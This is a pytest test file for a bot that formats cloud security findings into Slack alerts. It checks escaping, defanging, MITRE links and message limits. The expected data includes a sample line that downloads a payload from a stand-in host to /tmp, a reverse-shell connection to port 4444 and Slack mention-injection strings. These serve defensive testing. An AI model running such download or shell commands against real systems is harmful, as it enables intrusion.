from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from blocks.finding import MessageContext, build_finding_message
from blocks.ids import FindingBlock
from bot.finding import parse_notification
from standins.block_kit import validate_blocks
from tests.conftest import SAMPLES, sample_bytes
from tests.slack_safety import code_fences_balanced, live_tokens


def _blocks_by_id(blocks: list[dict]) -> dict[str, dict]:
    return {block["block_id"]: block for block in blocks if "block_id" in block}


def _text(block: dict) -> str:
    if "text" in block:
        return str(block["text"]["text"])
    return "\n".join(field["text"] for field in block["fields"])


def test_malicious_python_message_shows_what_a_responder_needs() -> None:
    record = parse_notification(sample_bytes("malicious_python_v2.json"))

    message = build_finding_message(record)
    blocks = _blocks_by_id(message.blocks)

    assert blocks[FindingBlock.HEADER]["text"]["text"] == (
        ":red_circle: CRITICAL · Execution: Malicious Python executed"
    )
    summary = _text(blocks[FindingBlock.SUMMARY])
    assert "Cloud Run service `payments-api`" in summary
    assert "revision `payments-api-00042-xyz`" in summary
    assert "`acme-prod` (`987654321098`)" in summary
    assert "<!date^1778580847^{date_short_pretty} {time_secs}|2026-05-12 10:14:07 UTC>" in summary
    process = _text(blocks[FindingBlock.PROCESS])
    assert "*Program* `/usr/local/bin/python3.12`" in process
    assert "*Script* `/tmp/.cache/update.py`" in process
    assert "*Arguments* ```python3 /tmp/.cache/update.py```" in process
    script = _text(blocks[FindingBlock.SCRIPT])
    assert "urllib.request.urlretrieve('http://malicious.example.invalid/p', '/tmp/.x')" in script
    assert "&lt;!channel&gt; &lt;https://evil.example.invalid|click me&gt; &amp; *bold*" in script
    digest = "fb25b756caf04c3aea513077939e50ea1072b2e6ca2c7858e970ad896606d423"
    assert f"<https://www.virustotal.com/gui/file/{digest}|VirusTotal>" in _text(
        blocks[FindingBlock.HASH]
    )
    mitre = _text(blocks[FindingBlock.MITRE])
    assert "<https://attack.mitre.org/techniques/T1059/006/|Python (T1059.006)>" in mitre
    assert "<https://attack.mitre.org/tactics/TA0002/|Execution (TA0002)>" in mitre
    assert "<https://attack.mitre.org/techniques/T1105/|Ingress Tool Transfer (T1105)>" in mitre
    links = {
        element["action_id"]: element["url"] for element in blocks[FindingBlock.LINKS]["elements"]
    }
    assert links["finding.open_console"].startswith(
        "https://console.cloud.google.com/security/command-center/findingsv2;name=organizations%2F"
    )
    assert (
        "startTime=2026-05-12T10:04:07.000Z;endTime=2026-05-12T10:24:07.000Z"
        in links["finding.open_logs"]
    )
    assert "revision_name%3D%22payments-api-00042-xyz%22" in links["finding.open_logs"]
    assert message.text == (
        "CRITICAL Execution: Malicious Python executed on service payments-api (acme-prod)"
    )
    assert "urllib" not in message.text


def test_inline_code_is_called_out_and_job_execution_shown() -> None:
    record = parse_notification(sample_bytes("malicious_python_inline_job_v2.json"))

    blocks = _blocks_by_id(build_finding_message(record).blocks)

    assert "inline code passed with `-c`" in _text(blocks[FindingBlock.PROCESS])
    summary = _text(blocks[FindingBlock.SUMMARY])
    assert "Cloud Run job `nightly-export`" in summary
    assert "execution `nightly-export-8k2xq`" in summary


def test_partial_hash_and_cut_preview_are_stated() -> None:
    record = parse_notification(sample_bytes("malicious_python_v1.json"))

    blocks = _blocks_by_id(build_finding_message(record).blocks)

    hashed = _text(blocks[FindingBlock.HASH])
    assert "SCC hashed only the first 104,857 of 1,048,576 bytes" in hashed
    script = _text(blocks[FindingBlock.SCRIPT])
    assert "preview of" in script and "400 lines" in script
    assert "SCC sent" in script and "1,048,576 bytes" in script
    assert len(script) <= 3000


def test_reverse_shell_shows_its_connection() -> None:
    record = parse_notification(sample_bytes("reverse_shell_v2.json"))

    blocks = _blocks_by_id(build_finding_message(record).blocks)

    assert _text(blocks[FindingBlock.CONNECTION]) == (
        "*Connection*\n`169.254.8.1:51234` → `203.0.113.50:4444` (TCP)"
    )


def test_malicious_url_indicator_is_defanged() -> None:
    record = parse_notification(sample_bytes("malicious_url_v2.json"))

    blocks = _blocks_by_id(build_finding_message(record).blocks)

    assert "`hxxp[:]//malicious[.]example[.]invalid/stage2[.]sh`" in _text(
        blocks[FindingBlock.INDICATOR]
    )


def test_added_binary_shows_program_hash() -> None:
    record = parse_notification(sample_bytes("added_binary_v2.json"))

    blocks = _blocks_by_id(build_finding_message(record).blocks)

    assert "*Program* `/tmp/.x`" in _text(blocks[FindingBlock.PROCESS])
    assert "*Program SHA-256* `b3c4d5e6" in _text(blocks[FindingBlock.HASH])


def test_hostile_sample_has_nothing_live() -> None:
    record = parse_notification(sample_bytes("hostile_v2.json"))

    message = build_finding_message(record)

    assert live_tokens(message.text, message.blocks) == []
    assert code_fences_balanced(message.blocks)
    flat = json.dumps(message.blocks, ensure_ascii=False)
    assert "\u202e" not in flat and "\u200b" not in flat
    assert "⟦U+202E⟧" in flat


@pytest.mark.parametrize("path", sorted(SAMPLES.glob("*.json")), ids=lambda p: p.stem)
def test_every_sample_passes_slack_limits(path: Path) -> None:
    record = parse_notification(path.read_bytes())

    message = build_finding_message(record)

    assert validate_blocks(message.blocks) == []
    assert len(message.text) <= 300
    assert live_tokens(message.text, message.blocks) == []


def test_context_adds_spread_occurrences_and_actions() -> None:
    record = parse_notification(sample_bytes("malicious_python_v2.json"))
    ctx = MessageContext(
        occurrences=3,
        last_seen=datetime(2026, 5, 12, 11, 0, tzinfo=UTC),
        same_script_elsewhere=(
            ("service billing <!here>", "https://example.slack.com/archives/C1/p1"),
        ),
        actions=(
            {
                "type": "button",
                "action_id": "investigate.related",
                "text": {"type": "plain_text", "text": "Related findings"},
                "value": "x",
            },
        ),
    )

    message = build_finding_message(record, ctx)
    blocks = _blocks_by_id(message.blocks)

    assert "seen 3 times" in _text(blocks[FindingBlock.SUMMARY])
    spread = _text(blocks[FindingBlock.SPREAD])
    assert "Same script seen on 1 other resource" in spread
    assert "<https://example.slack.com/archives/C1/p1|service billing &lt;!here&gt;>" in spread
    assert blocks[FindingBlock.INVESTIGATE]["elements"][0]["action_id"] == "investigate.related"
    assert validate_blocks(message.blocks) == []


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"])
def test_event_times_at_the_ends_of_the_calendar_still_render(moment: str) -> None:
    notification = json.loads(sample_bytes("malicious_python_v2.json"))
    notification["finding"]["eventTime"] = moment

    message = build_finding_message(parse_notification(json.dumps(notification)))

    assert validate_blocks(message.blocks) == []
    logs = next(b for b in message.blocks if b.get("block_id") == FindingBlock.LINKS)
    assert "startTime" not in json.dumps(logs)


def test_unknown_severity_says_so_in_the_header() -> None:
    notification = json.loads(sample_bytes("malicious_python_v2.json"))
    notification["finding"]["severity"] = 99

    message = build_finding_message(parse_notification(json.dumps(notification)))

    assert message.blocks[0]["text"]["text"] == (
        ":white_circle: Severity unknown · Execution: Malicious Python executed"
    )
